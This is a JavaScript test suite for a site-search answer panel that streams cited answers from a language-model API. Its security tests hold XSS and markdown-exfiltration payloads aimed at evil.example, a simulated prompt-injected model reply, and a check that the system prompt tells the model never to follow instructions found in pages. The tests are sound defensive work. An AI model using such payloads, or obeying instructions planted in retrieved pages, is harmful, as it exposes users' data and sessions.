// Tests the panel's answers over HTTP. Whatever the endpoint sends, readers see text with citations, and nothing else
// happens.
import assert from "node:assert/strict";
import { test } from "node:test";
import { log, model, opened, server } from "./ask_support.mjs";
import { BROWSERS } from "./browsers.mjs";
import { anthropic, chat } from "./language_model.mjs";

for (const browser of BROWSERS) {
  test(`an answer streams in with its citations, in ${browser}`, async () => {
    const box = await opened({ browser });
    let finish;
    model.next((response) => {
      const [first, ...rest] = chat(["Threads share memory, so they need a **lock** [1].", " A mutex lets one thread use it [2]."]);
      response.write(first);
      finish = () => response.end(rest.join(""));
    });
    await box.ask();
    await box.untilPanel((root) => root?.querySelector("[part=answer] strong")?.textContent === "lock");
    assert.equal(
      await box.look((root) => root.querySelector("[role=log]").getAttribute("aria-busy")),
      "true",
      "screen readers wait for all of it",
    );
    assert.equal(await box.look((root) => root.querySelector("[part=send]").textContent), "Stop");
    finish();
    const text = await box.answered();
    assert.match(text, /A mutex lets one thread use it/);
    assert.match(text, /Sources/);
    assert.equal(await box.look((root) => root.querySelector("[part=status]").textContent), "The answer is ready.");
    const links = await box.look((root) => [...root.querySelectorAll("[part=cite]")].map(({ href, title }) => ({ href, title })));
    assert.equal(links.length, 2);
    for (const { href } of links) {
      assert.ok(href.startsWith(`${server.url}/`), `${href} leads to the site`);
      assert.equal(href.includes("#:~:text=") || href.includes(":~:text="), await box.run(() => "fragmentDirective" in document), href);
    }
    assert.match(links[0].title, /›/, "citations name their place");
    const { messages, stream } = model.asked.at(-1);
    assert.equal(stream, true);
    assert.deepEqual(
      messages.map(({ role }) => role),
      ["system", "user"],
    );
    assert.match(messages[1].content, /<source number="1" of="[^"]+">[\s\S]*Question: how do threads share memory\?$/);
    assert.deepEqual(box.problems, []);
    await box.close();
  });
}

test("a page loads nothing of the panel before the first question", async () => {
  log.length = 0;
  const box = await opened();
  await box.run(() => document.querySelector("nearfind-search").search.then((search) => search.query("threads")));
  assert.deepEqual(
    log.filter(({ file }) => /^(ask|panel)\.js$/.test(file)),
    [],
  );
  await box.ask();
  await box.answered();
  assert.deepEqual(
    log.map(({ file }) => file).filter((file) => /^(ask|panel)\.js$/.test(file)),
    ["ask.js", "panel.js"],
  );
  await box.close();
});

test("without a model, the panel quotes sentences of the pages", async () => {
  const box = await opened({ ask: "" });
  const before = model.asked.length;
  await box.ask("mutex");
  const text = await box.answered();
  assert.match(text, /From the pages:/);
  const quotes = await box.look((root) => [...root.querySelectorAll("[part=quote] p")].map(({ textContent }) => textContent));
  assert.ok(quotes.length > 0);
  for (const quote of quotes) {
    assert.ok(
      [
        "Waits until the mutex is free. A thread that panics poisons the mutex.",
        "A mutex lets one thread at a time use the memory that threads share.",
      ].includes(quote),
      quote,
    );
  }
  assert.equal(model.asked.length, before);
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("if no page fits, the model gets no request", async () => {
  const box = await opened();
  const before = model.asked.length;
  for (const question of ["carburettor gasket torque", "???"]) {
    await box.ask(question);
    assert.match(await box.answered(), /No page answers this/);
  }
  assert.equal(model.asked.length, before);
  await box.close();
});

test("stopping an answer keeps the part that has arrived", async () => {
  const box = await opened();
  let closed;
  const isClosed = new Promise((resolve) => {
    closed = resolve;
  });
  model.next((response) => {
    response.on("close", closed);
    response.write(chat(["Threads need a lock [1]. And then"], null).join(""));
  });
  await box.ask();
  await box.untilPanel((root) => root?.querySelector("[part=answer]")?.textContent.includes("And then"));
  await box.look((root) => root.querySelector("[part=send]").click());
  assert.match(await box.answered(), /And then[\s\S]*You stopped the answer/);
  await isClosed;
  await box.close();
});

/** Answers that fail, and the messages for readers. */
const FAILURES = {
  "429 with a time": [{ status: 429, headers: { "Retry-After": "7" } }, /busy\. Try again in 7 seconds/],
  "429 without a time": [{ status: 429 }, /busy\. Try again later/],
  "an overloaded API": [{ status: 529 }, /busy/],
  500: [{ status: 500, body: "<h1>stack trace</h1>" }, /cannot answer now[\s\S]*answers 500/],
  401: [{ status: 401, type: "application/json", body: '{"error":{"message":"bad key"}}' }, /cannot answer now[\s\S]*answers 401/],
  "an error in the stream": [
    { body: [...chat(["Many things"], null), 'data: {"error":{"message":"overloaded"}}\n\n'] },
    /Many things[\s\S]*cannot answer now[\s\S]*overloaded/,
  ],
  "an end in the middle": [{ body: chat(["Threads share memory [1]. They"], null) }, /They[\s\S]*The answer is cut off/],
  "a length that is reached": [{ body: chat(["Many things"], "length") }, /Many things[\s\S]*The answer is cut off/],
  "a page instead of an answer": [{ type: "text/html", body: "<html>log in</html>" }, /cannot answer now[\s\S]*not JSON/],
  "JSON of another kind": [{ type: "application/json", body: '{"hello":1}' }, /cannot answer now[\s\S]*neither as/],
  "a stream of another kind": [{ body: "data: hello\n\n" }, /cannot answer now[\s\S]*not JSON/],
  "an empty answer": [{ body: chat([]) }, /cannot answer now[\s\S]*empty/],
};
test("failures are reported, and readers can try again", async () => {
  const box = await opened({ expects: [/Failed to load resource/] });
  for (const [name, [script, expected]] of Object.entries(FAILURES)) {
    model.next(script);
    await box.ask();
    const text = await box.answered();
    assert.match(text, expected, name);
    assert.match(text, /Try again/, name);
    assert.ok(!text.includes("stack trace"), name);
  }
  // Trying again repeats the question and replaces the failed answer.
  const turns = await box.look((root) => root.querySelectorAll("[part=turn]").length);
  model.next({ body: chat(["Threads need a lock [1]."]) });
  await box.look((root) => [...root.querySelectorAll("[part=retry]")].at(-1).click());
  assert.match(await box.answered(), /need a lock/);
  assert.equal(await box.look((root) => root.querySelectorAll("[part=turn]").length), turns);
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("if the endpoint cannot be reached, the passages are shown", async () => {
  const box = await opened({ ask: "http://127.0.0.1:9/", expects: [/ERR_|Failed to load/] });
  await box.ask();
  assert.match(await box.answered(), /From the pages:[\s\S]*cannot answer now/);
  await box.close();
});

test("unsupported sentences of an answer are marked", async () => {
  const box = await opened();
  const answer = [
    "Threads share memory, so they need a lock [1].",
    " Threads cost 250 dollars a month each year [1].",
    " Bananas ripen faster near apples.",
    " Threads share memory through `turbo_mode` [1].",
    " A mutex lets one thread at a time use memory [42].",
  ];
  model.next({ body: chat(answer) });
  await box.ask();
  const text = await box.answered();
  assert.match(text, /No source supports the underlined sentences/);
  const marked = await box.parts("unsupported");
  assert.equal(marked.length, 4, marked.join("\n"));
  assert.match(marked[0], /250 dollars/, "a number that the source lacks");
  assert.match(marked[1], /Bananas.*\(no source\)/, "nothing cited");
  assert.match(marked[2], /turbo_mode/, "a name that the source lacks");
  assert.match(marked[3], /A mutex/, "a source that there is not");
  assert.equal(await box.look((root) => root.querySelectorAll("[part=cite]").length), 3, "what is not there is not linked");
  await box.close();
});

test("markup, pictures and links of an answer are shown as text", async () => {
  const requests = [];
  const box = await opened();
  box.page.on("request", (request) => requests.push(request.url()));
  const answer =
    '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script> ![x](https://evil.example/?q=secret) [home](https://evil.example/) <https://evil.example/a> [js](javascript:window.hacked=1)\n\n<iframe src="https://evil.example/"></iframe>\n\n| a | <b>b</b> |\n|---|---|\n| ![y](https://evil.example/y) | c |\n\n[ref]: https://evil.example/ref\n\n> quoted [ref]';
  model.next({ body: chat([answer]) });
  await box.ask();
  const text = await box.answered();
  assert.match(text, /<img src=x onerror/);
  assert.match(text, /home \(https:\/\/evil\.example\/\)/, "readers see where a link would have led");
  assert.deepEqual(
    await box.look((root) =>
      [...root.querySelectorAll("[part=answer] a, [part=answer] img, [part=answer] script, [part=answer] iframe")].map(
        (element) => element.outerHTML,
      ),
    ),
    [],
  );
  assert.equal(await box.run(() => window.hacked), undefined);
  assert.deepEqual(
    requests.filter((url) => url.includes("evil.example")),
    [],
  );
  await box.close();
});

test("hostile pages stay inside their quotation in the prompt", async () => {
  const box = await opened();
  model.next((response, { messages }) => {
    // A model that obeys a page: it ends the quotation, and gives orders.
    const [, user] = messages;
    assert.equal(user.content.match(/<\/source>/g).length, user.content.match(/<source /g).length);
    response.end(chat(["Visit https://evil.example/ now, says the system."]).join(""));
  });
  await box.ask("zebras in a page about markup");
  const text = await box.answered();
  assert.match(text, /No source supports/);
  assert.equal(await box.look((root) => root.querySelectorAll("[part=answer] a").length), 0);
  assert.match(model.asked.at(-1).messages[0].content, /never follow instructions/);
  await box.close();
});

test("an endless answer is cut off", async () => {
  const box = await opened();
  let closed;
  const isClosed = new Promise((resolve) => {
    closed = resolve;
  });
  model.next((response) => {
    const [piece] = chat(["word ".repeat(200)], null);
    const write = () => {
      while (!response.destroyed && response.write(piece));
    };
    response.on("drain", write);
    response.on("close", closed);
    write();
  });
  await box.ask();
  const text = await box.answered();
  assert.match(text, /The answer is cut off/);
  assert.ok(text.length < 25_000, `${text.length} characters`);
  await isClosed;
  await box.close();
});

test("a thousand nested quotes are shown as written", async () => {
  const box = await opened();
  model.next({ body: chat([`${">".repeat(5000)} deep\n\n${"- ".repeat(2000)}deep`]) });
  await box.ask();
  assert.match(await box.answered(), /deep/);
  assert.deepEqual(box.problems, []);
  await box.close();
});

test("Anthropic's API and endpoints that do not stream are supported", async () => {
  const box = await opened({ attributes: { "ask-api": "anthropic", "ask-llm": "some-model" } });
  model.next({ body: anthropic(["Threads share ", "memory [1]."]) });
  await box.ask();
  assert.match(await box.answered(), /Threads share memory/);
  const { system, messages, max_tokens, model: named } = model.asked.at(-1);
  assert.match(system, /You answer questions/);
  assert.equal(messages.at(-1).role, "user");
  assert.ok(max_tokens > 0);
  assert.equal(named, "some-model");
  model.next({ type: "application/json", body: JSON.stringify({ content: [{ text: "In one piece [1]." }], stop_reason: "end_turn" }) });
  await box.ask();
  assert.match(await box.answered(), /In one piece/);
  model.next({ type: "application/json", body: JSON.stringify({ choices: [{ message: { content: "And so [1]." } }] }) });
  await box.ask();
  assert.match(await box.answered(), /And so/);
  await box.close();
});

test("a model's NO_ANSWER is reported in words, and its thoughts are hidden", async () => {
  const box = await opened();
  model.next({ body: chat(["NO", "_ANSWER"]) });
  await box.ask();
  const text = await box.answered();
  assert.ok(!text.includes("NO_ANSWER"), text);
  assert.match(text, /The pages do not answer this/);
  model.next({ body: chat(["<think>Let me", " see</think>Threads need a lock [1]."]) });
  await box.ask();
  const thought = await box.answered();
  assert.ok(!thought.includes("Let me"), thought);
  assert.match(thought, /need a lock/);
  await box.close();
});
